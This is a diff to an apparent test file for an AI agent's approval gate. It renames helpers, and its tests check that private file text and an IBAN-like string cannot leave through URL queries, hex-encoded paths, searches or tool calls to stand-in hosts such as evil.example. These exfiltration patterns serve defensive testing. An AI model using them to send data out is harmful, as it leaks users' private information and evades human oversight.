@@ -32,7 +32,7 @@ from elwood.features.web.tools import tools
 from elwood.foundation.net.http import Client
 from elwood.foundation.net.settings import EgressRules
 from elwood.foundation.runtime import inline
-from tests.agent.session.gates import Approver, MemoryLog, gate_for
+from tests.agent.session.gates import Approver, MemoryLog, make_gate
 from tests.agent.session.scripted import Named
 from tests.reminders import OFFERED, PLANNED
 
@@ -58,7 +58,7 @@ class Talk(MemoryLog):
         self.files = {"notes/plan.md": PLAN, "bills.txt": "documentation " * 3}
         self.page = FOUND
         made = [*map(self.faked, WEB), *self.tools()]
-        self.gate = gate_for(self, made, approver=self.approver, rules=Rules())
+        self.gate = make_gate(self, made, approver=self.approver, rules=Rules())
         self.verdict = NO
         self.names = [tool.name for tool in made]
         documents = Documents({"USER": USER})
@@ -129,7 +129,7 @@ class Talk(MemoryLog):
         return await self.call("web_search", query=query)
 
 
-def query(text: str) -> str:
+def search_url(text: str) -> str:
     return text.replace(" ", "%20")
 
 
@@ -140,11 +140,13 @@ async def test_private_file_text_needs_approval(size: int) -> None:
     assert await talk.call("read_file", name="notes/plan.md") == ""
 
     told = [
-        await talk.get(f"https://host.example/?q={query(PLAN[40 : 40 + size])}"),
+        await talk.get(f"https://host.example/?q={search_url(PLAN[40 : 40 + size])}"),
         await talk.get(f"https://host.example/{PLAN[40 : 40 + size].encode().hex()}"),
         await talk.search(PLAN[40 : 40 + min(size, 200)]),
-        await talk.call("lookup", name=f"https://host.example/?q={query(PLAN[40 : 40 + size])}"),
-        await talk.call("schedule", name=f"GET https://host.example/?q={query(PLAN[40:80])}"),
+        await talk.call(
+            "lookup", name=f"https://host.example/?q={search_url(PLAN[40 : 40 + size])}"
+        ),
+        await talk.call("schedule", name=f"GET https://host.example/?q={search_url(PLAN[40:80])}"),
     ]
 
     found = ["text from notes/plan.md (read_file)" in why for why in told]
@@ -210,7 +212,7 @@ async def test_the_owners_words_need_approval_once_tainted(source: str, way: str
     carried = "DE89 3704 0044 0532"
 
     if way == "get":
-        why = await talk.get(f"https://evil.example/?q={query(carried)}")
+        why = await talk.get(f"https://evil.example/?q={search_url(carried)}")
     else:
         why = await talk.search(carried)
 
